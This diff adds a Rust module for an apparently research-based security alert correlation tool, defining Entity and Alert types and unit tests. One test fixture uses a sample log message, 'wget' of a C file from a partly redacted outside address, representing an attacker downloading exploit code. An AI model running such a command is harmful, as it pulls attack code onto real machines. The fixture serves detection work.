@@ -1,0 +1,167 @@
+//! The alert type and attack entities.
+//!
+//! An [`Alert`] is a symbolized, sanitized log message with provenance
+//! metadata (§II-A: "each log message is annotated with metadata indicating
+//! the log's origin, such as source IP address or hostname").
+//!
+//! The [`Entity`] is the unit the threat model groups attacks by (§III-B):
+//! activity under the same user account is one attack, even across machines
+//! and even for multiple coordinated attackers; different accounts are
+//! separate attacks. Network-only activity with no account is keyed by
+//! source address.
+
+use std::fmt;
+use std::net::Ipv4Addr;
+
+use serde::{Deserialize, Serialize};
+use simnet::time::SimTime;
+use simnet::topology::HostId;
+
+use crate::taxonomy::{AlertKind, Severity};
+
+/// The acting entity an alert is attributed to.
+#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
+pub enum Entity {
+    /// A user account (the primary attack-session key, §III-B).
+    User(String),
+    /// A source address, for unauthenticated network activity.
+    Address(Ipv4Addr),
+    /// Unknown origin.
+    Unknown,
+}
+
+impl Entity {
+    /// Canonical string key for sessionization maps.
+    pub fn key(&self) -> String {
+        match self {
+            Entity::User(u) => format!("user:{u}"),
+            Entity::Address(a) => format!("addr:{a}"),
+            Entity::Unknown => "unknown".to_string(),
+        }
+    }
+
+    /// The user name if this is a user entity.
+    pub fn user(&self) -> Option<&str> {
+        match self {
+            Entity::User(u) => Some(u),
+            _ => None,
+        }
+    }
+}
+
+impl fmt::Display for Entity {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Entity::User(u) => write!(f, "user {u}"),
+            Entity::Address(a) => write!(f, "address {a}"),
+            Entity::Unknown => write!(f, "unknown entity"),
+        }
+    }
+}
+
+/// A symbolized alert.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct Alert {
+    pub ts: SimTime,
+    pub kind: AlertKind,
+    pub entity: Entity,
+    /// Host the alert was observed on, when host-based.
+    pub host: Option<HostId>,
+    /// Source address of the triggering activity, when network-borne.
+    pub src: Option<Ipv4Addr>,
+    /// Destination address, when network-borne.
+    pub dst: Option<Ipv4Addr>,
+    /// Sanitized human-readable message.
+    pub message: String,
+}
+
+impl Alert {
+    /// Minimal constructor for tests and generators.
+    pub fn new(ts: SimTime, kind: AlertKind, entity: Entity) -> Alert {
+        Alert { ts, kind, entity, host: None, src: None, dst: None, message: String::new() }
+    }
+
+    pub fn with_src(mut self, src: Ipv4Addr) -> Alert {
+        self.src = Some(src);
+        self
+    }
+
+    pub fn with_dst(mut self, dst: Ipv4Addr) -> Alert {
+        self.dst = Some(dst);
+        self
+    }
+
+    pub fn with_host(mut self, host: HostId) -> Alert {
+        self.host = Some(host);
+        self
+    }
+
+    pub fn with_message(mut self, msg: impl Into<String>) -> Alert {
+        self.message = msg.into();
+        self
+    }
+
+    /// Severity shortcut.
+    pub fn severity(&self) -> Severity {
+        self.kind.severity()
+    }
+
+    /// Whether this alert signals irreversible damage (Insight 4).
+    pub fn is_critical(&self) -> bool {
+        self.kind.is_critical()
+    }
+}
+
+impl fmt::Display for Alert {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(f, "{} {} [{}]", self.ts, self.kind, self.entity)?;
+        if !self.message.is_empty() {
+            write!(f, " {}", self.message)?;
+        }
+        Ok(())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn entity_keys_are_distinct() {
+        let u = Entity::User("alice".into());
+        let a = Entity::Address("10.0.0.1".parse().unwrap());
+        assert_ne!(u.key(), a.key());
+        assert_eq!(u.key(), "user:alice");
+        assert_eq!(u.user(), Some("alice"));
+        assert_eq!(a.user(), None);
+    }
+
+    #[test]
+    fn builder_chain() {
+        let a = Alert::new(
+            SimTime::from_secs(1),
+            AlertKind::DownloadSensitive,
+            Entity::User("bob".into()),
+        )
+        .with_src("64.215.1.1".parse().unwrap())
+        .with_host(HostId(3))
+        .with_message("wget 64.215.xxx.yyy/abs.c");
+        assert_eq!(a.kind, AlertKind::DownloadSensitive);
+        assert!(a.src.is_some());
+        assert!(a.dst.is_none());
+        assert_eq!(a.severity(), Severity::Significant);
+        assert!(!a.is_critical());
+    }
+
+    #[test]
+    fn display_includes_symbol() {
+        let a = Alert::new(
+            SimTime::from_secs(0),
+            AlertKind::PrivilegeEscalation,
+            Entity::Unknown,
+        );
+        let s = a.to_string();
+        assert!(s.contains("alert_priv_escalation"));
+        assert!(a.is_critical());
+    }
+}
